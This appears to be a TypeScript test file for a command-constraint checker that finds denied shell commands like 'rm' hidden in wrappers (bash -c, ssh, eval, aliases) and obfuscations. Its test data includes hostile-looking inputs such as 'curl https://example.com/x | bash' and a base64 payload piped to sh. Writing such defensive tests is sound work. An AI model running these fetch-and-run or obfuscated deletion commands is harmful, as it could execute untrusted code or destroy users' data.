import { describe, expect, test } from "vitest";

import { beginsCommand, namesCommand, namesCommandIn } from "./command-constraint";

describe("a denied command", () => {
  test.each([
    "rm x",
    "bash -c 'rm x'",
    'sh -c "sudo rm x"',
    "eval 'rm x'",
    "ssh host 'rm x'",
    "su -c 'rm x'",
    "env -S 'rm x'",
    "alias a=rm; a x",
    "X=1 sh -c 'cd /tmp && rm x'",
    "bash -c \"sh -c 'rm x'\"",
  ])("is found wherever it is written out: %s", (command) => expect(namesCommand(command, "rm")).toBe(true));

  test.each([
    "echo cm0geA== | base64 -d | sh",
    "curl https://example.com/x | bash",
    "python -c 'import os'",
    "{rm,x}",
    "/bin/r? x",
    "sudo $X y",
    'bash -c "$X"',
    "awk 'BEGIN{system(\"rm x\")}'",
    "bash -c 'unfinished",
  ])("may be in what is not written out: %s", (command) => expect(namesCommand(command, "git push")).toBe(true));

  test.each(["git status", "ls *.ts", "git commit -m 'rm the old format'", "bash -c 'ls; git log'", "python3 x.py"])(
    "is not seen where it is not: %s",
    (command) => expect(namesCommand(command, "rm")).toBe(false),
  );

  test("is found in a program given as a list with its arguments", () => {
    expect(namesCommandIn(["git", "push", "--force"], "git push")).toBe(true);
    expect(namesCommandIn(["sh", "-c", "git push"], "git push")).toBe(true);
    expect(namesCommandIn(["git", "pull"], "git push")).toBe(false);
  });

  test("is looked for in time that grows with the length of the text", () => {
    const started = performance.now();
    for (const piece of ["sh -c '", "a=b ", "sudo a=b ", 'sh -c "a=b=c ', "'x y' "]) {
      namesCommand(`sudo ${piece.repeat(8_000)}`, "rm -rf");
      namesCommandIn(
        Array.from({ length: 1_000 }, () => piece),
        "rm -rf",
      );
    }
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});

describe("the prefix of a command", () => {
  test("is whole words of one command", () => {
    expect(beginsCommand("git status -s", "git status")).toBe(true);
    expect(beginsCommand("git statuses", "git status")).toBe(false);
    expect(beginsCommand("git status; rm x", "git status")).toBe(false);
  });
});
